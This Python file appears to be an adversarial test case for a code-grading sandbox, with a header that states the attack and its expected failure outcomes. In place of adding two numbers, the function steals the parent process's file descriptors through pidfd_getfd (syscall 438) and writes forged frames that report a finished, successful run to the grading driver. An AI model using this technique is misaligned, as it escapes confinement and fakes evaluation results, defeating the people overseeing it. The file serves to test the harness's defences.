# problem: add
# attack: copies the descriptors of its parent by pidfd_getfd, and with them the connection to the driver; sends frames
# expect: wrong | early-exit | exception
import ctypes
import os
import struct

END = b'{"reason": "done", "finished": 4, "lines": 5, "status": 0, "wall": 0, "cpu": 0, "peak_kilobytes": 1}'


def add(a, b):
    libc = ctypes.CDLL(None, use_errno=True)
    stolen = 0
    for process in {os.getppid()} - {0}:
        try:
            handle = os.pidfd_open(process)
            with open(f"/proc/{process}/cmdline", "rb") as file:
                ours = b"remint" in file.read()
        except OSError:
            continue
        for number in range(3, 64):
            fd = libc.syscall(438, handle, number, 0)
            if fd >= 0:
                stolen += 1
                if not ours or os.path.isfile(fd):
                    continue
                os.set_blocking(fd, False)
                try:
                    os.write(fd, struct.pack(">cI", b"D", 6) + b"0 r 3\n" + struct.pack(">cI", b"E", len(END)) + END)
                except OSError:
                    continue
    return f"ESCAPED with {stolen} descriptors" if stolen else 41
